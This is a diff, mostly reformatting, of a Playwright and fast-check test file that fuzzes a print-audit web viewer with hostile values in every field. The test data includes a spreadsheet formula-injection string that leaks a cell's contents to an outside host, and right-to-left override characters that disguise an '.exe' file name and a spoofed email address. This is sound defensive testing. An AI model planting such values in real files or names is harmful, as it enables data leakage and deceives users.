@@ -17,7 +17,10 @@ import { startRig, type Rig } from "./rig/rig";
 import { makeJob, printerIdFor } from "./rig/tenant";
 
 const browserMissing = !chromiumInstalled();
-const skip = browserMissing && !process.env.CI ? `${chromiumPath} is missing: install it with apt-get install chromium to run the viewer's browser tests` : false;
+const skip =
+  browserMissing && !process.env.CI
+    ? `${chromiumPath} is missing: install it with apt-get install chromium to run the viewer's browser tests`
+    : false;
 
 const big = "W".repeat(100_000);
 const hostileStrings = [
@@ -51,20 +54,28 @@ const hostileStrings = [
   "not a date",
   "1-3,5",
   "1-99999999999999999999",
-  "=HYPERLINK(\"http://x?\"&A1,\"y\")",
+  '=HYPERLINK("http://x?"&A1,"y")',
   "",
   " ",
 ];
 const hostileString = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom(...hostileStrings) },
   { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
-  { weight: 2, arbitrary: fc.array(fc.constantFrom(...hostileStrings), { minLength: 2, maxLength: 4 }).map((parts) => parts.join(" ")) },
+  {
+    weight: 2,
+    arbitrary: fc
+      .array(fc.constantFrom(...hostileStrings), { minLength: 2, maxLength: 4 })
+      .map((parts) => parts.join(" ")),
+  },
   { weight: 1, arbitrary: fc.constant(big) },
 );
 const graphJobLink = fc
   .tuple(fc.oneof(hostileString, fc.uuid()), hostileString)
   .map(([printer, job]) => `https://graph.microsoft.com/v1.0/print/printers/${printer}/jobs/${job}`);
-const time = fc.oneof(fc.date({ noInvalidDate: true }).map((d) => d.toISOString()), hostileString);
+const time = fc.oneof(
+  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
+  hostileString,
+);
 const value = fc.oneof(
   { weight: 5, arbitrary: hostileString },
   { weight: 1, arbitrary: fc.integer() },
@@ -74,13 +85,37 @@ const value = fc.oneof(
 );
 type Row = Record<string, unknown>;
 /** A recorded row with a hostile value in every column; ids kept as strings so rows group into jobs. */
-const jobRow = fc.record(Object.fromEntries(jobColumns.map((c) => [c, value])) as Record<string, fc.Arbitrary<unknown>>).chain((row) =>
-  fc.record({ PrinterId: hostileString, JobId: hostileString, CreatedDateTime: time, ObservedDateTime: time, AcknowledgedDateTime: time, RedirectedTo: fc.oneof(graphJobLink, value), RedirectedFrom: fc.oneof(graphJobLink, value) }).map((ids) => ({ ...row, ...ids }) as Row),
-);
-const taskRow = fc.record(Object.fromEntries(taskColumns.map((c) => [c, value])) as Record<string, fc.Arbitrary<unknown>>).chain((row) =>
-  fc.record({ TaskId: hostileString, TaskState: fc.oneof(fc.constantFrom("processing", "completed", "aborted"), hostileString), ObservedDateTime: time }).map((t) => ({ ...row, ...t }) as Row),
-);
-const history = fc.record({ printerName: fc.oneof(hostileString, fc.constant(undefined)), states: fc.array(jobRow, { minLength: 1, maxLength: 8 }), tasks: fc.array(taskRow, { maxLength: 6 }) });
+const jobRow = fc
+  .record(Object.fromEntries(jobColumns.map((c) => [c, value])) as Record<string, fc.Arbitrary<unknown>>)
+  .chain((row) =>
+    fc
+      .record({
+        PrinterId: hostileString,
+        JobId: hostileString,
+        CreatedDateTime: time,
+        ObservedDateTime: time,
+        AcknowledgedDateTime: time,
+        RedirectedTo: fc.oneof(graphJobLink, value),
+        RedirectedFrom: fc.oneof(graphJobLink, value),
+      })
+      .map((ids) => ({ ...row, ...ids }) as Row),
+  );
+const taskRow = fc
+  .record(Object.fromEntries(taskColumns.map((c) => [c, value])) as Record<string, fc.Arbitrary<unknown>>)
+  .chain((row) =>
+    fc
+      .record({
+        TaskId: hostileString,
+        TaskState: fc.oneof(fc.constantFrom("processing", "completed", "aborted"), hostileString),
+        ObservedDateTime: time,
+      })
+      .map((t) => ({ ...row, ...t }) as Row),
+  );
+const history = fc.record({
+  printerName: fc.oneof(hostileString, fc.constant(undefined)),
+  states: fc.array(jobRow, { minLength: 1, maxLength: 8 }),
+  tasks: fc.array(taskRow, { maxLength: 6 }),
+});
 
 /** One row of 100 KB values in every column. */
 const hugeRow: Row = Object.fromEntries(jobColumns.map((c) => [c, `${c} ${big}`]));
@@ -98,7 +133,11 @@ interface Served {
 
 /** A page whose audit API answers with `served`; everything the page does wrong is collected. */
 async function hostilePage(served: Served): Promise<{ context: BrowserContext; page: Page; problems: string[] }> {
-  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, timezoneId: "Europe/Berlin", locale: "en-GB" });
+  const context = await browser.newContext({
+    viewport: { width: 1280, height: 900 },
+    timezoneId: "Europe/Berlin",
+    locale: "en-GB",
+  });
   const page = await context.newPage();
   const problems: string[] = [];
   page.on("pageerror", (error) => problems.push(`pageerror: ${error.message}`));
@@ -109,11 +148,24 @@ async function hostilePage(served: Served): Promise<{ context: BrowserContext; p
   page.on("console", (message) => {
     if (message.type() === "error") problems.push(`console: ${message.text().slice(0, 300)}`);
   });
-  await page.route("**/api/audit/jobs**", (route) => route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify({ value: served.jobs }) }));
+  await page.route("**/api/audit/jobs**", (route) =>
+    route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify({ value: served.jobs }) }),
+  );
   await page.route("**/api/audit/printers/**", (route) => {
     const [, printerId = "", jobId = ""] = /\/printers\/([^/]*)\/jobs\/([^/?]*)/.exec(route.request().url()) ?? [];
     const h = served.history ?? { states: served.jobs.slice(0, 3), tasks: [] };
-    return route.fulfill({ status: 200, contentType: "application/json", body: JSON.stringify({ printerId, jobId, printerName: h.printerName, current: h.states.at(-1), states: h.states, tasks: h.tasks }) });
+    return route.fulfill({
+      status: 200,
+      contentType: "application/json",
+      body: JSON.stringify({
+        printerId,
+        jobId,
+        printerName: h.printerName,
+        current: h.states.at(-1),
+        states: h.states,
+        tasks: h.tasks,
+      }),
+    });
   });
   return { context, page, problems };
 }
@@ -166,12 +218,16 @@ async function inspect(page: Page, views: string): Promise<string[]> {
 async function holds<T>(property: fc.IAsyncProperty<T>, numRuns: number): Promise<void> {
   const seed = process.env.FC_SEED ? Number(process.env.FC_SEED) : undefined;
   const run = await fc.check(property, { numRuns, endOnFailure: true, ...(seed !== undefined ? { seed } : {}) });
-  if (run.failed) assert.fail(`fails with seed ${run.seed} (FC_SEED=${run.seed} replays it): ${String((run.errorInstance as Error)?.message ?? run.errorInstance).slice(0, 3000)}`);
+  if (run.failed)
+    assert.fail(
+      `fails with seed ${run.seed} (FC_SEED=${run.seed} replays it): ${String((run.errorInstance as Error)?.message ?? run.errorInstance).slice(0, 3000)}`,
+    );
 }
 
 describe("the viewer with hostile values in every field, in Chromium", { skip }, () => {
   before(async () => {
-    if (browserMissing) throw new Error(`${chromiumPath} is missing; CI installs it in .ci/run (apt-get install chromium).`);
+    if (browserMissing)
+      throw new Error(`${chromiumPath} is missing; CI installs it in .ci/run (apt-get install chromium).`);
     rig = await startRig({ storage: true });
     browser = await launchChromium();
   });
@@ -206,7 +262,9 @@ describe("the viewer with hostile values in every field, in Chromium", { skip },
       fc.asyncProperty(history, hostileString, hostileString, async (served, printerId, jobId) => {
         const { context, page, problems } = await hostilePage({ jobs: [], history: served });
         try {
-          await page.goto(`${rig.api}/audit/ui#/job/${encodeURIComponent(wellFormed(printerId.slice(0, 200)))}/${encodeURIComponent(wellFormed(jobId.slice(0, 200)))}`);
+          await page.goto(
+            `${rig.api}/audit/ui#/job/${encodeURIComponent(wellFormed(printerId.slice(0, 200)))}/${encodeURIComponent(wellFormed(jobId.slice(0, 200)))}`,
+          );
           await page.locator("#job-body .facts, #job-body .empty, #problem:not([hidden])").first().waitFor();
           assert.deepEqual([...problems, ...(await inspect(page, "#job-title, #job-body"))], []);
         } finally {
@@ -218,7 +276,10 @@ describe("the viewer with hostile values in every field, in Chromium", { skip },
   });
 
   test("an address with bad percent-encoding opens the job view instead of failing", async () => {
-    const { context, page, problems } = await hostilePage({ jobs: [], history: { states: [{ ...hugeRow, ObservedDateTime: "2026-11-20T10:00:00Z" }], tasks: [] } });
+    const { context, page, problems } = await hostilePage({
+      jobs: [],
+      history: { states: [{ ...hugeRow, ObservedDateTime: "2026-11-20T10:00:00Z" }], tasks: [] },
+    });
     try {
       await page.goto(`${rig.api}/audit/ui#/job/%E0%A4%A/%`);
       await page.locator("#job-body .facts").waitFor();
@@ -233,12 +294,28 @@ describe("the viewer with hostile values in every field, in Chromium", { skip },
     const printerId = printerIdFor(91);
     rig.sim.addPrinter({ id: printerId, displayName: "Reception \u202Eexe.pdf" });
     const spoof = makeJob(printerId, 1, { state: "completed", createdDateTime: "2026-11-20T09:00:00Z" });
-    spoof.createdBy = { id: "u-mallory", userPrincipalName: "mallory@contoso.com", displayName: "Mallory \u202Emoc.osotnoc@htims.nhoj" };
+    spoof.createdBy = {
+      id: "u-mallory",
+      userPrincipalName: "mallory@contoso.com",
+      displayName: "Mallory \u202Emoc.osotnoc@htims.nhoj",
+    };
     spoof.documents = [{ id: "d1", displayName: "Salary review \u202Efdp.exe", size: 5 }];
     rig.sim.addJob(printerId, spoof);
-    rig.sim.addJob(printerId, makeJob(printerId, 2, { state: "canceled", createdDateTime: "2026-11-20T09:05:00Z", redirectedTo: "https://graph.microsoft.com/v1.0/print/printers/%E0%A4%A/jobs/%E0%A4%A" }));
+    rig.sim.addJob(
+      printerId,
+      makeJob(printerId, 2, {
+        state: "canceled",
+        createdDateTime: "2026-11-20T09:05:00Z",
+        redirectedTo: "https://graph.microsoft.com/v1.0/print/printers/%E0%A4%A/jobs/%E0%A4%A",
+      }),
+    );
     rig.configure({ AUDIT_PRINTER_IDS: printerId, AUDIT_TABLE_PREFIX: "viewerhostile" });
-    await rig.host.startTriggers({ connectionString: rig.azurite!.connectionString, timers: false, visibilityTimeoutInMs: 0, pollingIntervalInMs: 20 });
+    await rig.host.startTriggers({
+      connectionString: rig.azurite!.connectionString,
+      timers: false,
+      visibilityTimeoutInMs: 0,
+      pollingIntervalInMs: 20,
+    });
     try {
       await rig.host.fireTimer("auditTimer");
       await rig.host.waitForQueuesIdle();
@@ -256,12 +333,20 @@ describe("the viewer with hostile values in every field, in Chromium", { skip },
       assert.match(facts, /Mallory ⟨U\+202E⟩moc\.osotnoc@htims\.nhoj/, "the override is shown, not applied");
       assert.match(facts, /Salary review ⟨U\+202E⟩fdp\.exe/);
       assert.doesNotMatch(await page.locator("body").innerText(), /\u202E/);
-      assert.equal(await page.locator(".facts bdi", { hasText: "Mallory ⟨U+202E⟩moc.osotnoc@htims.nhoj" }).count(), 1, "the name sits in its own isolate");
+      assert.equal(
+        await page.locator(".facts bdi", { hasText: "Mallory ⟨U+202E⟩moc.osotnoc@htims.nhoj" }).count(),
+        1,
+        "the name sits in its own isolate",
+      );
       assert.deepEqual(await inspect(page, "#job-title, #job-body"), []);
 
       await page.goto(`${rig.api}/audit/ui#/job/${printerId}/2`);
       await page.locator("#job-body .facts").waitFor();
-      assert.match(await page.locator(".facts").innerText(), /Redirected to\s+job %E0%A4%A on %E0%A4%A/, "the link's parts shown as recorded");
+      assert.match(
+        await page.locator(".facts").innerText(),
+        /Redirected to\s+job %E0%A4%A on %E0%A4%A/,
+        "the link's parts shown as recorded",
+      );
       assert.deepEqual(await inspect(page, "#job-title, #job-body"), []);
 
       await page.goto(`${rig.api}/audit/ui#/jobs`);
@@ -269,7 +354,11 @@ describe("the viewer with hostile values in every field, in Chromium", { skip },
       assert.match(await page.locator("#jobs-table").innerText(), /Reception ⟨U\+202E⟩exe\.pdf/);
       assert.deepEqual(await inspect(page, "#jobs-body"), []);
       const json = (await (await fetch(`${rig.api}/audit/printers/${printerId}/jobs/1`)).json()) as { current: Row };
-      assert.equal(json.current.CreatedByName, "Mallory \u202Emoc.osotnoc@htims.nhoj", "the JSON API keeps the value as recorded");
+      assert.equal(
+        json.current.CreatedByName,
+        "Mallory \u202Emoc.osotnoc@htims.nhoj",
+        "the JSON API keeps the value as recorded",
+      );
       assert.deepEqual(errors, []);
     } finally {
       await context.close();
